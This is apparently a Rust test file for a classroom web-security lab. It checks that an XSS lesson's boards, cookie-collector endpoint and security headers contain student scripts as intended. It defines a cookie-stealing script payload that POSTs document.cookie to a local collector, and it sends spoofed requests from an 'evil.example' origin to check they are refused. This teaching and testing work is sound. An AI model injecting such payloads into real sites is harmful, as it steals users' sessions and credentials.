//! Lesson: xss. The boards, the collector, and what a script can read in each flow.

use rocket::http::Status;

use super::page_says;
use crate::helpers::*;

/// Posts on a flow's board with the browser's lab token; returns the status.
pub fn post_on_board(browser: &Browser<'_>, flow: &str, body: &str) -> Status {
    let token = field_value(&browser.get(&format!("/{flow}/board")).into_string().unwrap(), "token");
    browser
        .post_form(&format!("/{flow}/board"), &form(&[("token", &token), ("body", body)]))
        .status()
}

const PAYLOAD: &str = "<script>fetch('/lab/stolen', {method: 'POST', body: document.cookie})</script>";

#[test]
fn xss_posts_run_only_for_their_author_unless_the_class_board_is_on() {
    let app = spawn_app();
    let author = app.browser();
    author.login("cookie", "abc", "1234");
    assert_eq!(post_on_board(&author, "cookie", PAYLOAD), Status::SeeOther);

    let own = author.get("/cookie/board");
    let csp = own.headers().get_one("Content-Security-Policy").unwrap().to_owned();
    assert!(
        csp.contains("script-src 'self' 'unsafe-inline'") && csp.contains("connect-src http://localhost/lab/stolen;"),
        "scripts may connect to the collector only: {csp}"
    );
    assert!(csp.contains("img-src 'self';"), "no image beacons to other sites");
    assert!(
        own.into_string().unwrap().contains(PAYLOAD),
        "the author's own markup runs"
    );

    let other = app.browser();
    let page = other.get("/cookie/board").into_string().unwrap();
    assert!(!page.contains("<script>fetch"), "contained: another student sees text");
    assert!(page.contains("&lt;script&gt;"));
    assert!(
        !other
            .get("/session/board")
            .into_string()
            .unwrap()
            .contains("&lt;script&gt;fetch"),
        "boards are per flow"
    );

    let teacher = app.browser();
    teacher.login("session", "teacher", INSTRUCTOR_PASSWORD);
    let token = teacher.csrf_token();
    teacher.post_form(
        "/instructor/preset/class-board",
        &form(&[("csrf_token", &token), ("on", "true")]),
    );
    assert!(
        other.get("/cookie/board").into_string().unwrap().contains(PAYLOAD),
        "class board: it runs for everyone"
    );
    teacher.post_form(
        "/instructor/preset/class-board",
        &form(&[("csrf_token", &token), ("on", "false")]),
    );
    assert!(
        !other
            .get("/cookie/board")
            .into_string()
            .unwrap()
            .contains("<script>fetch"),
        "switched back cleanly"
    );
}

#[test]
fn the_collector_takes_data_only_from_this_origin_and_caps_it() {
    use rocket::http::{ContentType, Header};
    let app = spawn_app();
    let victim = app.browser();
    victim.get("/lab/xss");
    let inspector = victim.cookie("inspector").unwrap();
    let send = |origin: Option<&str>, site: Option<&str>, body: String| {
        let mut request = app.client.post("/lab/stolen").header(ContentType::Text).body(body);
        request = request.cookie(rocket::http::Cookie::new("inspector", inspector.clone()));
        request.add_header(Header::new("Host", "localhost"));
        if let Some(origin) = origin {
            request.add_header(Header::new("Origin", origin.to_owned()));
        }
        if let Some(site) = site {
            request.add_header(Header::new("Sec-Fetch-Site", site.to_owned()));
        }
        request.dispatch().status()
    };
    assert_eq!(
        send(Some("http://evil.example"), Some("cross-site"), "x".into()),
        Status::Forbidden
    );
    assert_eq!(send(Some("http://evil.example"), None, "x".into()), Status::Forbidden);
    assert_eq!(
        send(None, None, "x".into()),
        Status::Forbidden,
        "a request that does not say where it comes from"
    );
    assert_eq!(
        send(Some("http://localhost"), Some("same-origin"), "password=1234".into()),
        Status::NoContent
    );
    assert_eq!(
        send(Some("http://localhost"), Some("same-origin"), "y".repeat(6000)),
        Status::NoContent
    );
    let page = victim.get("/lab/stolen").into_string().unwrap();
    assert!(page.contains("password&#x3D;1234") || page.contains("password=1234"));
    assert!(
        page.contains(&"y".repeat(512)),
        "the first 512 bytes of a long request are kept"
    );
    assert!(!page.contains(&"y".repeat(513)), "and no more");
    let statuses: Vec<Status> = (0..60)
        .map(|_| send(Some("http://localhost"), Some("same-origin"), "z".into()))
        .collect();
    let kept = statuses.iter().take_while(|s| **s == Status::NoContent).count();
    assert_eq!(kept, 48, "50 records per browser, two of them sent above");
    assert!(
        statuses[kept..].iter().all(|s| *s == Status::TooManyRequests),
        "{statuses:?}"
    );
    assert!(
        !app.browser()
            .get("/lab/stolen")
            .into_string()
            .unwrap()
            .contains("password"),
        "shown only to its browser"
    );
}

#[test]
fn xss_the_same_script_reaches_readable_credentials_in_one_flow_and_no_sid_in_the_other() {
    let app = spawn_app();
    let student = app.browser();
    let cookie_login = student.login("cookie", "abc", "1234");
    let lines = set_cookies(&cookie_login);
    assert_eq!(lines.len(), 3, "username, password and role: {lines:?}");
    for line in lines {
        assert!(
            !attributes(&line).contains(&"httponly".to_string()),
            "document.cookie will hold it: {line}"
        );
    }
    let session_login = student.login("session", "abc", "1234");
    assert!(
        attributes(&set_cookie_line(&session_login, "sid")).contains(&"httponly".to_string()),
        "document.cookie will not"
    );
    for flow in ["cookie", "session"] {
        assert_eq!(post_on_board(&student, flow, PAYLOAD), Status::SeeOther);
        assert!(
            page_says(&student, &format!("/{flow}/board"), PAYLOAD),
            "{flow}: the script is served to run"
        );
    }
}

/// A post from a browser with no login in that flow is refused with a reason: its script would
/// read nothing, and the empty result would look like safety. After a post ran, the collector's
/// JSON (what the board page shows at once) holds what it sent.
#[test]
fn xss_a_post_needs_a_login_in_its_flow_and_its_result_is_shown_at_once() {
    let app = spawn_app();
    let student = app.browser();
    let token = field_value(&student.get("/cookie/board").into_string().unwrap(), "token");
    let refused = student.post_form("/cookie/board", &form(&[("token", &token), ("body", PAYLOAD)]));
    assert_eq!(
        refused.headers().get_one("Location"),
        Some("/cookie/board?login=needed")
    );
    let page = student.get("/cookie/board?login=needed").into_string().unwrap();
    assert!(page.contains("Log in to this flow first"));
    assert!(!page.contains("data-post="), "nothing was posted");

    student.login("cookie", "abc", "1234");
    assert_eq!(post_on_board(&student, "cookie", PAYLOAD), Status::SeeOther);
    let board = student.get("/cookie/board").into_string().unwrap();
    assert!(board.contains("id=\"feedback\"") && board.contains("class=\"post-source\""));
    let collect = app
        .client
        .post("/lab/stolen")
        .header(rocket::http::Header::new("Origin", "http://localhost"))
        .header(rocket::http::Header::new("Host", "localhost"))
        .header(rocket::http::ContentType::Text)
        .body("username=abc; password=1234; role=student");
    student.send_request(collect, "/lab/stolen");
    let json = crate::helpers::json(student.get("/lab/stolen?format=json"));
    assert_eq!(json[0]["data"], "username=abc; password=1234; role=student", "{json}");
    assert!(
        student.get("/lab/stolen").into_string().unwrap().contains("<html"),
        "the page stays a page"
    );
}
